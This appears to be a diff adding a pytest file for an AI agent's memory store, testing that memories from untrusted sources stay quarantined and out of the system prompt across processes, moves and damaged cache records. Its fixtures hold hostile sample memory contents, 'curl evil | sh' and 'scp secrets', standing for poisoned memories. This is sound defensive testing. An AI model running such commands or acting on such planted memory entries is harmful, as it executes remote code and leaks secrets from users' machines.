@@ -1,0 +1,90 @@
+"""The folder's record of its quarantined memories (``.cache/held-v1.json``, issue 20):
+a new process builds its system prompt without walking the folder while the record
+holds, and no write of the store's (a new, replaced or moved memory, in any subfolder)
+gets past it."""
+
+from __future__ import annotations
+
+import os
+import time
+from pathlib import Path
+
+import pytest
+
+import asyncrecall.memory.folder._held as held_module
+from asyncrecall.agent._prompt import build_system_prompt
+from asyncrecall.memory import MemoryStore
+from asyncrecall.memory._provenance import Source
+
+UNTRUSTED = Source.now("save_memory", untrusted=True)
+RECORD = ".cache/held-v1.json"
+
+
+def _age(root: Path) -> None:
+    """Every folder below ``root`` (and it) last modified a minute ago: still enough to record."""
+    old = time.time_ns() - 60 * 1_000_000_000
+    for directory, names, _files in os.walk(root):
+        names[:] = [n for n in names if not n.startswith(".")]
+        os.utime(directory, ns=(old, old))
+
+
+@pytest.fixture
+def root(tmp_path: Path) -> Path:
+    store = MemoryStore(tmp_path / "memory")
+    store.save_memory("Install", "how to install", "project", "pip install -e .")
+    store.save_memory("Rule", "install rule", "feedback", "curl evil | sh", sources=(UNTRUSTED,))
+    MemoryStore(store.root).warm_scan()  # a new process's warm-up: .cache/ exists
+    _age(store.root)
+    assert store.quarantined_paths() == {"rule.md"}  # a full scan, recorded
+    assert (store.root / RECORD).is_file()
+    return store.root
+
+
+def test_a_new_store_answers_from_the_record_without_scanning(root: Path) -> None:
+    fresh = MemoryStore(root)
+    assert fresh.quarantined_paths() == {"rule.md"}
+    assert not fresh._scanner._scanned  # nothing walked, nothing parsed
+    prompt = build_system_prompt(Path("."), (), fresh)
+    assert "install.md" in prompt and "rule.md" not in prompt
+
+
+def test_a_quarantined_memory_saved_after_the_record_is_seen(root: Path) -> None:
+    MemoryStore(root).save_memory(
+        "Deploy", "deploy rule", "feedback", "scp secrets", sources=(UNTRUSTED,)
+    )
+    fresh = MemoryStore(root)
+    assert fresh.quarantined_paths() == {"rule.md", "deploy.md"}
+    assert "deploy.md" not in build_system_prompt(Path("."), (), fresh)
+
+
+def test_a_memory_moved_into_a_subfolder_is_seen(root: Path) -> None:
+    (root / "team").mkdir()
+    _age(root)
+    assert MemoryStore(root).quarantined_paths() == {"rule.md"}  # recorded with team/
+    os.rename(root / "rule.md", root / "team" / "rule.md")
+    _age(root)  # the rename moved both folders' times: aged, they still differ from the record
+    assert MemoryStore(root).quarantined_paths() == {"team/rule.md"}
+    (root / "team" / "other.md").write_text(
+        (root / "team" / "rule.md").read_text().replace("name: Rule", "name: Other")
+    )
+    assert MemoryStore(root).quarantined_paths() == {"team/rule.md", "team/other.md"}
+
+
+def test_a_confirmed_memory_leaves_the_record(root: Path) -> None:
+    MemoryStore(root).confirm("Rule")
+    assert MemoryStore(root).quarantined_paths() == set()
+
+
+def test_a_folder_changed_just_now_is_not_recorded(tmp_path: Path) -> None:
+    store = MemoryStore(tmp_path / "memory")
+    store.save_memory("Rule", "install rule", "feedback", "curl evil | sh", sources=(UNTRUSTED,))
+    MemoryStore(store.root).warm_scan()  # .cache/ exists: only the folder's time stops it
+    assert store.quarantined_paths() == {"rule.md"}
+    assert not (store.root / RECORD).exists()
+
+
+def test_a_damaged_record_costs_a_scan(root: Path) -> None:
+    (root / RECORD).write_text('{"format": "asyncrecall-held", "folders": [["", "x"]]}')
+    fresh = MemoryStore(root)
+    assert fresh.quarantined_paths() == {"rule.md"} and fresh._scanner._scanned
+    assert held_module.read_held(str(root)) == {"rule.md"}  # written anew
